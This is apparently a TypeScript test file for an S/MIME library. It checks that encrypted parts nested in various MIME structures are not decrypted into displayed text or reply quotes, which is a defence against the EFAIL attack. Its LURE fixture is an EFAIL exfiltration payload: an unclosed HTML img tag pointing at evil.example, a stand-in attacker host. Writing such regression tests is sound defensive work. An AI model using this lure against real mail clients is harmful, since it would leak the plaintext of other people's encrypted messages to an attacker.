import { afterAll, describe, expect, it } from "vitest";
import { fromLatin1, latin1 } from "../../src/smime/bytes.ts";
import { edit, letter, mixed, People, TEXT } from "../smime/people.ts";

/** EFAIL: somebody else's ciphertext inside a letter must not be opened into it, nor be quoted into the answer. */
const people = new People();
afterAll(() => people.remove());

const LURE = "Content-Type: text/html\r\n\r\n<img src='https://evil.example/\r\n";
const sealed = await people.encrypt(TEXT);

const PLACES = [
  ["beside HTML", mixed(LURE, sealed)],
  ["alone in a container", mixed(sealed)],
  ["between two halves of a tag", mixed(LURE, sealed, "Content-Type: text/html\r\n\r\n'>\r\n")],
  ["in an alternative", edit(mixed(LURE, sealed), "multipart/mixed", "multipart/alternative")],
  ["in a signed container", await people.sign(mixed(LURE, sealed), people.eve)],
  ["beneath a signature among other parts", mixed(LURE, await people.sign(sealed, people.eve))],
  ["beneath another encryption", await people.encrypt(sealed)],
  ["beside others beneath an encryption", await people.encrypt(mixed(LURE, sealed))],
] as const;

describe("an encrypted part that is not at the top", () => {
  it.each(PLACES)("stays closed: %s", async (_, entity) => {
    const { report, content, reply, attachment } = await people.open(letter(entity));
    expect(report.remarks).toContain("encryption/nested-not-opened");
    expect(content.text).not.toContain("still warm");
    expect(content.html ?? "").not.toContain("still warm");
    expect(reply.quotedText).not.toContain("still warm");
    expect(content.attachments.map(({ contentType }) => contentType)).toContain("application/pkcs7-mime");
    expect(latin1(attachment(content.attachments.length - 1))).not.toContain("still warm");
  });

  it("stays closed in multipart/signed with a third part", async () => {
    const signed = latin1(await people.sign(sealed, people.eve));
    const boundary = /boundary="(.*?)"/.exec(signed)?.[1] ?? "";
    const message = letter(
      fromLatin1(signed.replace(`--${boundary}--`, `--${boundary}\r\n${LURE}\r\n--${boundary}--`)),
    );
    const { report, content } = await people.open(message);
    expect(report.encryption).toEqual({ kind: "none" });
    expect(report.remarks).toContain("encryption/nested-not-opened");
    expect(content.text).not.toContain("still warm");
  });

  it("is opened at the top and directly beneath a signature, where nothing stands beside it", async () => {
    expect((await people.open(letter(sealed))).content.text).toContain("still warm");
    expect((await people.open(letter(await people.sign(sealed)))).content.text).toContain("still warm");
  });
});
